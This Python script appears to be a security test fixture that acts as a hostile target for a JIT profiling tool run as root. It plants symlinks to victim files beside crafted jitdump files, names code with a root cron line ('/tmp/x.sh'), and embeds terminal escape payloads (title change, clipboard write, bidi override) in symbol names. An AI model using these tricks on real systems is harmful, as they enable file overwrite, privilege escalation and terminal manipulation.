#!/usr/bin/env python3
"""A hostile target for `jitframes record` run as root (x86_64): a real
jitframes process (libjitframes through ctypes: its published table, and
with JITFRAMES_CONTROL=1 its control channel) that also lies in files.

    hostile_jit_target.py LIBJITFRAMES OWN_DIR VICTIM1 VICTIM2 VICTIM3 MODE

It maps (PROT_EXEC, so perf records it) a jitdump of its own making, with
a CODE_LOAD of code index 7 named like a cron line, beside a symlink
jitted-PID-7.so -> VICTIMn (where perf inject would write that code's ELF
image), in three directories of its own:
  OWN_DIR/a/jit-0PID.dump    perf reads the pid with strtol: it counts
  OWN_DIR/b/jit-PID.dump     the right name, outside its jitdump directory
  OWN_DIR/.../jit-PID.dump   dots in the mapped path (the kernel records
                             paths resolved: a literal ".." never reaches perf)
It runs two spinning functions, each in an executable mapping of its own:
A registered (named with C1 CSI U+009B and U+202E), B named only in what it
appends itself once the channel turned its sinks on, with ESC sequences
(title, OSC 52 clipboard write, clear screen): a line of its perf map, a
CODE_LOAD of its jitdump.
MODE: plain; sparse=BYTES (started with its jitdump on, JITFRAMES=jitdump,
so that record leaves that sink alone: its jitdump extended to BYTES at
once without writing, a sparse file). Creates OWN_DIR/ready when set up. Runs until killed.
"""
import ctypes
import mmap
import os
import struct
import sys
import time

lib_path, own, victims, mode = sys.argv[1], sys.argv[2], sys.argv[3:6], sys.argv[6]
pid = os.getpid()
CRON = b"* * * * * root /tmp/x.sh"
NAME_A = "spin_a\u009b31m\u202eevil_a"
NAME_B = b"\x1b]0;pwned-title\x07\x1b]52;c;cHduZWQ=\x07\x1b[2Jspin_b\xc2\x9b\xe2\x80\xae"


def code_load(addr, code, index, name):
    now = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
    load = struct.pack("<IIQQQQ", pid, pid, addr, addr, len(code), index) + name + b"\0" + code
    return struct.pack("<IIQ", 0, 16 + len(load), now) + load


def jitdump(path):
    """A jitdump: header, one CODE_LOAD (index 7) named CRON."""
    now = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
    header = struct.pack("<IIIIIIQQ", 0x4A695444, 1, 40, 62, 0, pid, now, 0)
    with open(path, "xb") as f:
        f.write(header + code_load(0x1000, b"\x90" * 15 + b"\xc3", 7, CRON))


mapped = []
for sub, name, victim in (("a", "jit-0%d.dump" % pid, victims[0]), ("b", "jit-%d.dump" % pid, victims[1]),
                          ("...", "jit-%d.dump" % pid, victims[2])):
    d = os.path.join(own, sub)
    os.makedirs(d, exist_ok=True)
    jitdump(os.path.join(d, name))
    os.symlink(victim, os.path.join(d, "jitted-%d-7.so" % pid))
    with open(os.path.join(d, name), "rb") as f:
        mapped.append(mmap.mmap(f.fileno(), 0, flags=mmap.MAP_PRIVATE,
                                prot=mmap.PROT_READ | mmap.PROT_EXEC))

lib = ctypes.CDLL(lib_path)


class Region(ctypes.Structure):
    _fields_ = [("struct_size", ctypes.c_size_t), ("addr", ctypes.c_void_p), ("size", ctypes.c_size_t),
                ("name", ctypes.c_char_p), ("file", ctypes.c_char_p), ("line", ctypes.c_uint32),
                ("lines", ctypes.c_void_p), ("n_lines", ctypes.c_size_t), ("cfi", ctypes.c_void_p)]


if lib.jf_init(None) not in (0, -14):
    sys.exit("jf_init failed")
spin = b"\xb9\xa0\x86\x01\x00\xff\xc9\x75\xfc\xc3"  # mov ecx, 100000; 1: dec ecx; jnz 1b; ret
codes = [mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC) for _ in range(2)]
for c in codes:
    c[0:len(spin)] = spin
base, base_b = (ctypes.addressof(ctypes.c_char.from_buffer(c)) for c in codes)
region = Region(ctypes.sizeof(Region), base, 64, NAME_A.encode(), None, 0, None, 0, None)
if lib.jf_register(ctypes.byref(region)) != 0:
    sys.exit("jf_register failed")
fn = ctypes.CFUNCTYPE(None)
a, b = fn(base), fn(base_b)
perf_map = "/tmp/perf-%d.map" % pid
dump = os.path.join(os.environ.get("JITFRAMES_DIR", "/tmp"), "jit-%d.dump" % pid)
if mode.startswith("sparse="):
    os.truncate(dump, int(mode[len("sparse="):]))
open(os.path.join(own, "ready"), "w").close()

named_b = False
while True:
    for _ in range(200):
        a()
        b()
    if mode == "plain" and not named_b and os.path.exists(perf_map) and os.path.exists(dump):
        with open(perf_map, "ab") as f:
            f.write(b"%x 40 %s\n" % (base_b, NAME_B))
        with open(dump, "ab") as f:
            f.write(code_load(base_b, spin + b"\0" * 6, 99, NAME_B))
        named_b = True

